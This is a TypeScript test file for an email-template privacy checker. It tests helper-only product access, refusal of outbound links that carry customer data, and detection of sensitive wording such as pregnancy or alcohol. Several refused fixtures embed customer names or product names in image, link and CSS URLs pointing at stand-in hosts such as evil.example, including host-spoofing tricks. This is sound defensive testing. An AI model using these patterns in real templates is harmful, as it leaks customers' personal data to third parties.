import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import config from '../../mesura.config.ts';
import { View } from '../../src/domain/index.ts';
import { helperSignatures, parsePolicy } from '../../src/guard/index.ts';
import { mailRules } from '../../src/run/check/mailRules.ts';
import { Config } from '../../src/run/config/Config.ts';
import { checkTemplate } from '../../src/template/index.ts';

const policy = parsePolicy(
  `version: 1
name: ours
extends: mesura:default
exceptions:
  - {topic: pregnancy-and-baby, phrase: Baby & Co, because: so we are called}
`,
  'policy.yaml',
);
const options = {
  schema: z.toJSONSchema(View),
  helpers: helperSignatures,
  rules: mailRules(policy, Config.parse(config)),
};
const page = (body: string, head: string) =>
  `<mjml><mj-head><mj-title>A</mj-title><mj-preview>B</mj-preview>${head}</mj-head>
<mj-body><mj-section><mj-column>${body}</mj-column></mj-section></mj-body></mjml>`;
const codes = async (body: string, head = '') =>
  (await checkTemplate(page(body, head), options))
    .map(({ code }) => code)
    .filter((code) => ['past-the-helpers', 'told-to-others', 'sensitive-copy'].includes(code));

describe('products are reached through the helpers only', () => {
  it.each([
    '{{#each purchases}}{{name}}{{/each}}',
    '{{#each purchases as |one|}}{{one.name}}{{/each}}',
    '{{#purchases}}{{#each @root.complements}}{{name}}{{/each}}{{/purchases}}',
    '{{#complements}}{{#each ../purchases}}{{name}}{{/each}}{{/complements}}',
    '{{#if complements.[0].name}}{{complements.[0].name}}{{/if}}',
    '{{#if complements.0.name}}{{complements.0.name}}{{/if}}',
    '{{#with complements.[0]}}{{name}}{{/with}}',
    '{{#with (lookup purchases 0)}}{{name}}{{/with}}',
    '{{#complements}}{{#with (lookup @root.purchases @index)}}{{name}}{{/with}}{{/complements}}',
  ])('%s is refused', async (body) => {
    expect(await codes(`<mj-text>${body}</mj-text>`)).toContain('past-the-helpers');
  });

  it.each([
    '{{#complements}}{{name}} {{why}}{{/complements}}',
    '{{#purchases max=1}}{{name}}{{/purchases}}',
    '{{#if purchases}}you bought {{purchases.length}} things{{/if}}',
    '{{#if complements.length}}yes{{/if}}',
  ])('%s is let be', async (body) => {
    expect(await codes(`<mj-text>${body}</mj-text>`)).toEqual([]);
  });
});

describe("somebody else's address carries no name, product or day", () => {
  const name = '{{#if customer.firstName}}{{customer.firstName}}{{/if}}';
  it.each([
    `<mj-image alt="" src="https://other.example/${name}.png" />`,
    '{{#if customer.firstName}}<mj-image alt="" src="https://other.example/?n={{customer.firstName}}" />{{/if}}',
    '{{#if customer.firstName}}<mj-text><a href="//other.example/{{customer.firstName}}">x</a></mj-text>{{/if}}',
    '{{#complements}}<mj-button href="https://other.example/search?q={{name}}">x</mj-button>{{/complements}}',
    '{{#complements}}<mj-image alt="" src="https://other.example/badge?t={{why}}" />{{/complements}}',
    '{{#purchases}}<mj-text>{{#if image}}<img alt="" src="{{image}}?d={{placedAt}}">{{/if}}</mj-text>{{/purchases}}',
    '{{#complements}}<mj-text>see https://other.example/{{name}}</mj-text>{{/complements}}',
    '{{#complements}}<mj-text><span style="background:url(https://other.example/{{name}})">x</span></mj-text>{{/complements}}',
    '{{#if customer.firstName}}<mj-image alt="" src="https://casapirineo.example.evil.example/{{customer.firstName}}" />{{/if}}',
    '{{#if customer.firstName}}<mj-image alt="" src="https://casapirineo.example@evil.example/{{customer.firstName}}" />{{/if}}',
    '{{#if customer.firstName}}<mj-image alt="" src="https://{{customer.firstName}}.evil.example/" />{{/if}}',
  ])('%s is refused', async (body) => {
    expect(await codes(body)).toContain('told-to-others');
  });

  it.each([
    '{{#complements}}{{#if url}}<mj-button href="{{link url}}">{{name}}</mj-button>{{/if}}{{/complements}}',
    '{{#complements}}{{#if image}}<mj-image alt="{{name}}" src="{{image}}" />{{/if}}{{/complements}}',
    '{{#complements}}<mj-button href="https://www.casapirineo.example/buscar?q={{name}}">x</mj-button>{{/complements}}',
    '{{#complements}}<mj-button href="{{shop.url}}/buscar?q={{name}}">x</mj-button>{{/complements}}',
    '{{#complements}}<mj-text><a href="https://other.example/a">x</a> {{name}}</mj-text>{{/complements}}',
    '<mj-image alt="" src="https://other.example/{{language}}/{{campaign.name}}.png" />',
    '{{#complements}}<mj-text><a href="https://other.example/{{#if url}}x{{/if}}">{{name}}</a></mj-text>{{/complements}}',
  ])('%s is let be', async (body) => {
    expect(await codes(body)).toEqual([]);
  });
});

describe("a template's own words", () => {
  it.each([
    '<mj-text>Enjoy your pregnancy test</mj-text>',
    '<mj-text>Enjoy your preg<b>nancy</b> test</mj-text>',
    '<mj-text>Disfruta de tus pa&ntilde;ales</mj-text>',
    '<mj-text>Pan\u0303ales para todos</mj-text>',
    '<mj-image src="https://casapirineo.example/a.png" alt="A baby bottle" />',
    '<mj-text>{{#if order}}Your whisky{{else}}Your coat{{/if}}</mj-text>',
  ])('%s is found', async (body) => {
    expect(await codes(body)).toContain('sensitive-copy');
  });

  it('are read in the subject and preheader too', async () => {
    expect(await codes('', '<mj-title>Your pregnancy</mj-title>')).toContain('sensitive-copy');
    expect(await codes('', '<mj-preview>Wine for you</mj-preview>')).toContain('sensitive-copy');
  });

  it.each([
    '<mj-text>Baby corn, and Baby &amp; Co, Jaca</mj-text>',
    '<mj-text>Wear it in the rain, wash it cold</mj-text>',
    '<mj-raw><!-- pregnancy --></mj-raw>',
  ])('%s is let be', async (body) => {
    expect(await codes(body)).toEqual([]);
  });
});
